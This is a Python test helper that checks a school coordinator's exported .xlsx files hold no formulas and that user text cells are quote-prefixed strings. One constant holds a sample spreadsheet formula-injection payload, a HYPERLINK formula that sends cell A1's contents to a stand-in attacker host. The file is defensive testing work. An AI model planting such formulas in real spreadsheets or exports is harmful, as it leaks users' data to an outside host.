"""Checks of an exported .xlsx shared by the exports' tests: user text is never a formula."""

from __future__ import annotations

import io
import zipfile

import openpyxl

# What a school could type as its name or comment to plant a link in the coordinator's export.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'


def no_formulas(content: bytes) -> None:
    """No sheet of the file holds a formula (an ``<f>`` element)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def text_cells(content: bytes, text: str) -> list:
    """The cells holding ``text``, each checked to be a string with Excel's quote prefix."""
    no_formulas(content)
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == text
    ]
    assert cells, f"«{text}» is not in the file"
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    return cells
